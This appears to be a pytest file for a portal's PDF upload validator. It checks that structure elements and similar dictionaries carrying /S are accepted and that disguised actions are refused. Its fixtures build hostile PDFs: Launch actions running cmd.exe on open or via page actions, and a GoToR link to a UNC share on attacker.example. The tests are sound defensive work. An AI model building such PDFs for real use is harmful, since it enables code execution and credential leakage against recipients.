"""A PDF's dictionaries that carry an /S of their own are not taken for actions: a tagged
PDF's structure elements (the portal prints its documents tagged; a unit's Word or InDesign
export may name a role after its paragraph style, "Sound" or "Launch"), whether they say
/Type /StructElem or, as the specification allows, leave it out, a page's transition,
a link's border style, page labels, an output intent. A real action stays refused wherever a
reader looks for one (an /OpenAction, an annotation's /A, a page's /AA, an action's /Next),
whatever it calls itself."""

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from campaign import uploads
from config.pdf_sandbox import html_to_pdf
from tests.campaign.upload_files import PDF_BYTES, refusal

Name = pikepdf.Name
OUTSIDE = "trỏ ra ngoài"
SCRIPT = "tập lệnh"
LAUNCH = {"S": Name.Launch, "F": pikepdf.String("cmd.exe")}


def accepted(content):
    return uploads.validate_upload(SimpleUploadedFile("kh.pdf", content)) == "application/pdf"


def saved(pdf):
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def tagged(*roles, typed=True):
    """The one-page PDF tagged with a structure element of each role of `roles`, mapped to a
    paragraph (/P) by the role map, as an export names roles after paragraph styles; with
    `typed` false, the elements leave out their optional /Type."""
    pdf = pikepdf.open(io.BytesIO(PDF_BYTES))
    root = pdf.make_indirect(pikepdf.Dictionary(Type=Name.StructTreeRoot))
    page = pdf.pages[0].obj
    kind = {"Type": Name.StructElem} if typed else {}
    elements = [
        pdf.make_indirect(pikepdf.Dictionary(**kind, S=Name(f"/{role}"), P=root, Pg=page, K=n))
        for n, role in enumerate(roles)
    ]
    root.K = pikepdf.Array(elements)
    root.RoleMap = pikepdf.Dictionary({f"/{role}": Name.P for role in roles})
    pdf.Root.StructTreeRoot = root
    pdf.Root.MarkInfo = pikepdf.Dictionary(Marked=True)
    return saved(pdf)


def test_a_tagged_pdf_printed_by_the_portal_is_accepted():
    # Its structure elements (/S /Link, /P, /H1, /Table…), its links to a web page and within
    # itself, and PDF/A's output intent (/S /GTS_PDFA1).
    content = html_to_pdf(
        '<html lang="vi"><body><h1>Kế hoạch</h1><p>Xem <a href="https://thuvienphapluat.vn/">'
        'văn bản</a> và <a href="#muc-2">mục 2</a>.</p><table><tr><th>Đơn vị</th></tr>'
        '<tr><td>A1</td></tr></table><h2 id="muc-2">Mục 2</h2><ul><li>Một</li></ul>'
        "</body></html>",
        "pdf/a-3b",
    )
    with pikepdf.open(io.BytesIO(content)) as pdf:
        roles = {str(o.S) for o in pdf.objects if isinstance(o, pikepdf.Dictionary) and "/S" in o}
        intent = pdf.Root.OutputIntents[0].S
    assert {"/Link", "/P", "/H1", "/Table"} <= roles and intent == Name.GTS_PDFA1
    assert accepted(content)


@pytest.mark.parametrize("role", ["Sound", "Movie", "Launch", "Rendition", "GoToR", "SubmitForm"])
def test_a_structure_element_whose_role_is_named_like_an_action_is_accepted(role):
    assert accepted(tagged(role))


def test_structure_elements_without_a_type_whose_roles_are_named_like_actions_are_accepted():
    assert accepted(tagged("Sound", "Launch", typed=False))


def test_untyped_structure_elements_are_found_down_the_whole_tree():
    # A /Document element whose kids are an array of an indirect element and one written in
    # place, the latter with a single kid of its own; a kid pointing back up its tree.
    pdf = pikepdf.open(io.BytesIO(tagged("P")))
    root = pdf.Root.StructTreeRoot
    page = pdf.pages[0].obj
    document = pdf.make_indirect(pikepdf.Dictionary(S=Name.Document, P=root))
    sound = pdf.make_indirect(pikepdf.Dictionary(S=Name.Sound, P=document, Pg=page, K=1))
    launch = pikepdf.Dictionary(S=Name.Launch, P=document, Pg=page, K=root)
    document.K = pikepdf.Array([sound, pikepdf.Dictionary(S=Name.Movie, P=document, K=launch)])
    root.K = document
    assert accepted(saved(pdf))


def test_transitions_border_styles_and_page_labels_are_accepted():
    pdf = pikepdf.open(io.BytesIO(PDF_BYTES))
    page = pdf.pages[0].obj
    page.Trans = pikepdf.Dictionary(Type=Name.Trans, S=Name.Dissolve, D=1)
    page.Annots = pikepdf.Array(
        [
            pdf.make_indirect(
                pikepdf.Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=pikepdf.Array([0, 0, 50, 20]),
                    BS=pikepdf.Dictionary(S=Name.D, W=1),
                    A=pikepdf.Dictionary(S=Name.GoTo, D=pikepdf.Array([page, Name.Fit])),
                )
            )
        ]
    )
    pdf.Root.PageLabels = pikepdf.Dictionary(Nums=pikepdf.Array([0, pikepdf.Dictionary(S=Name.r)]))
    assert accepted(saved(pdf))


def dressed(**action):
    """An action that calls itself a structure element."""
    return pikepdf.Dictionary(Type=Name.StructElem, **action)


def tagged_with_opening(action):
    pdf = pikepdf.open(io.BytesIO(tagged("P")))
    pdf.Root.OpenAction = pdf.make_indirect(action)
    return saved(pdf)


def test_an_action_calling_itself_a_structure_element_is_refused_when_the_file_opens():
    assert SCRIPT in refusal("kh.pdf", tagged_with_opening(dressed(**LAUNCH)))


def test_an_action_calling_itself_a_structure_element_is_refused_on_a_link_or_a_page():
    pdf = pikepdf.open(io.BytesIO(PDF_BYTES))
    page = pdf.pages[0].obj
    page.Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=pikepdf.Array([0, 0, 50, 20]),
                A=dressed(S=Name.GoToR, F=pikepdf.String(r"\\attacker.example\share\x.pdf")),
            )
        ]
    )
    assert OUTSIDE in refusal("kh.pdf", saved(pdf))
    del page.Annots
    page.AA = pikepdf.Dictionary(O=pdf.make_indirect(dressed(**LAUNCH)))
    assert SCRIPT in refusal("kh.pdf", saved(pdf))


@pytest.mark.parametrize("as_array", [False, True])
def test_an_action_chained_by_next_is_refused_whatever_it_calls_itself(as_array):
    pdf = pikepdf.open(io.BytesIO(PDF_BYTES))
    launch = pdf.make_indirect(dressed(**LAUNCH))
    middle = pikepdf.Dictionary(
        S=Name.GoTo,
        D=pikepdf.Array([pdf.pages[0].obj, Name.Fit]),
        Next=pikepdf.Array([launch]) if as_array else launch,
    )
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, Name.Fit]), Next=middle
    )
    assert SCRIPT in refusal("kh.pdf", saved(pdf))


def test_an_action_in_the_structure_tree_is_still_refused_where_a_reader_looks_for_one():
    pdf = pikepdf.open(io.BytesIO(tagged("P", typed=False)))
    launch = pdf.make_indirect(pikepdf.Dictionary(**LAUNCH))
    pdf.Root.StructTreeRoot.K.append(launch)
    pdf.Root.OpenAction = launch
    assert SCRIPT in refusal("kh.pdf", saved(pdf))
    del pdf.Root.OpenAction
    page = pdf.pages[0].obj
    page.AA = pikepdf.Dictionary(O=launch)
    assert SCRIPT in refusal("kh.pdf", saved(pdf))
